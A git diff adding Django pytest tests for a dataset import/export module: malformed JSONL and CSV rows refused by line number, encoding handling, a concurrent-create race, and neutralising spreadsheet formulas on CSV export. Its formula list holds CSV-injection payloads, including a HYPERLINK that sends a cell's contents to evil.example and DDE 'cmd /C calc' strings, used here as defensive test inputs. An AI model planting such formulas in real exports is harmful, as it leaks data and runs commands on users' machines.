@@ -1,11 +1,15 @@
 """Dataset import and export: CSV and JSONL, bad rows reported by line, nothing half-imported."""
 
+import csv
+import io
 import json
+import threading
 
 import pytest
+from django.db import connection
 
 from promptlib.batches.datasets import DatasetError, cases_export, cases_import, dataset_create
-from promptlib.batches.models import DatasetCase
+from promptlib.batches.models import Dataset, DatasetCase
 
 pytestmark = pytest.mark.django_db
 
@@ -72,3 +76,132 @@ def test_it_rejects_a_duplicate_dataset_name(dataset, acme):
     with pytest.raises(DatasetError) as exc:
         dataset_create(project=acme, name="tickets")
     assert exc.value.field == "name"
+
+
+# --- attacks: what the database or the parser would fail on, refused line by line -------------------
+
+
+def _refused(dataset, content, fmt="jsonl"):
+    with pytest.raises(DatasetError) as exc:
+        cases_import(dataset=dataset, content=content, fmt=fmt)
+    assert not DatasetCase.objects.exists()
+    return exc.value.rows
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        '{"input": {"t": "a\\u0000b"}}',  # PostgreSQL's jsonb refuses NUL
+        '{"input": {"t": NaN}}',
+        '{"input": {"t": Infinity}}',
+        '{"input": {"t": -Infinity}}',
+        '{"input": {"t": 1e999}}',  # parses as inf
+        '{"input": {"t": "\\ud800"}}',  # a lone surrogate: no UTF-8 encoding
+        '{"input": {"t": ' + "[" * 5000 + "]" * 5000 + "}}",  # RecursionError in json
+        '{"input": {"t": ' + "[" * 40 + "]" * 40 + "}}",  # deeper than the stored limit
+        '{"input": {"t": ' + "1" * 5000 + "}}",  # int() refuses over 4,300 digits
+        '{"input": {"t": ' + str(2**64) + "}}",  # over bigint
+        '{"input": {"t": "ok"}, "expected_output": "a\\u0000"}',
+        '{"input": {"a\\u0000": "ok"}}',  # a NUL in a key
+        '{"input": {"t": "ok"}, "tags": ["\\udfff"]}',
+    ],
+)
+def test_a_jsonl_line_the_database_cannot_store_is_refused_by_its_line(dataset, line):
+    rows = _refused(dataset, '{"input": {"t": "fine"}}\n' + line + "\n")
+    assert [r["line"] for r in rows] == [2]
+
+
+def test_a_csv_cell_over_the_field_limit_names_its_line(dataset):
+    rows = _refused(dataset, "ticket\nshort\n" + "x" * 131_073 + "\n", fmt="csv")
+    assert rows[0]["line"] == 3 and "131,072 characters" in rows[0]["message"]
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        'ticket,input\nok,"{""t"": NaN}"\n',
+        'ticket,input\nok,"{""t"": 1e999}"\n',
+        'ticket,input\nok,"' + "[" * 5000 + '"\n',
+        'ticket,input\nok,"{""t"": ""\\ud800""}"\n',
+        "ticket\na\x00b\n",
+        "ticket\n\ud800\n",
+        "tick\x00et\nfine\n",
+    ],
+)
+def test_a_csv_row_the_database_cannot_store_is_refused_by_its_line(dataset, content):
+    assert [r["line"] for r in _refused(dataset, content, fmt="csv")] == [2]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_a_byte_order_mark_is_dropped(dataset, fmt):
+    content = "\ufeffticket\nhello\n" if fmt == "csv" else '\ufeff{"input": {"ticket": "hello"}}\n'
+    cases_import(dataset=dataset, content=content, fmt=fmt)
+    cases_import(dataset=dataset, content=content.encode("utf-8"), fmt=fmt)
+    assert list(dataset.cases.values_list("input", flat=True)) == [{"ticket": "hello"}] * 2
+
+
+def test_a_utf16_file_with_its_byte_order_mark_is_read(dataset):
+    cases_import(dataset=dataset, content="ticket\nhéllo\n".encode("utf-16"), fmt="csv")
+    assert dataset.cases.get().input == {"ticket": "héllo"}
+
+
+def test_a_file_in_another_encoding_is_a_clear_error(dataset):
+    with pytest.raises(DatasetError) as exc:
+        cases_import(dataset=dataset, content="ticket\nh\xe9llo\n".encode("latin-1"), fmt="csv")
+    assert exc.value.field == "file" and "not UTF-8" in exc.value.message
+    assert not DatasetCase.objects.exists()
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3", "\t=1+1"]  # fmt: skip
+
+
+def _tag(text: str) -> str:
+    return text.strip().replace(",", ";")  # the CSV export joins tags with commas
+
+
+def test_the_csv_export_neutralises_formulas(dataset):
+    lines = [{"input": {"t": "x"}, "expected_output": f, "tags": [_tag(f)]} for f in FORMULAS]
+    cases_import(dataset=dataset, content="".join(json.dumps(line) + "\n" for line in lines), fmt="jsonl")
+    rows = list(csv.reader(io.StringIO(cases_export(dataset=dataset, fmt="csv"))))[1:]
+    for row in rows:
+        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in row), row
+    assert rows[0][1] == "'" + FORMULAS[0]
+
+
+def test_a_neutralised_export_imports_back_to_the_same_text(dataset, acme):
+    texts = [*FORMULAS, "'=already quoted", "-5", "plain"]
+    lines = [{"input": {"t": "x"}, "expected_output": t, "tags": [_tag(t)]} for t in texts]
+    cases_import(dataset=dataset, content="".join(json.dumps(line) + "\n" for line in lines), fmt="jsonl")
+    copy = dataset_create(project=acme, name="copy")
+    cases_import(dataset=copy, content=cases_export(dataset=dataset, fmt="csv"), fmt="csv")
+    assert list(copy.cases.values_list("expected_output", "tags")) == [(t, [_tag(t)]) for t in texts]
+
+
+# --- attack: concurrent creates of one name ----------------------------------------------------------
+
+
+@pytest.mark.django_db(transaction=True)
+def test_concurrent_creates_of_one_name_give_one_dataset_and_conflicts(acme):
+    outcomes: list[object] = []
+    start = threading.Barrier(10)
+
+    def create() -> None:
+        try:
+            start.wait()
+            outcomes.append(dataset_create(project=acme, name="race"))
+        except DatasetError as exc:
+            outcomes.append(exc.status)
+        except BaseException as exc:  # noqa: BLE001 - reported by the assertion below
+            outcomes.append(exc)
+        finally:
+            connection.close()
+
+    threads = [threading.Thread(target=create) for _ in range(10)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    created = [o for o in outcomes if not isinstance(o, int)]
+    assert len(created) == 1 and all(o in (400, 409) for o in outcomes if isinstance(o, int)), outcomes
+    assert Dataset.objects.filter(name="race").count() == 1
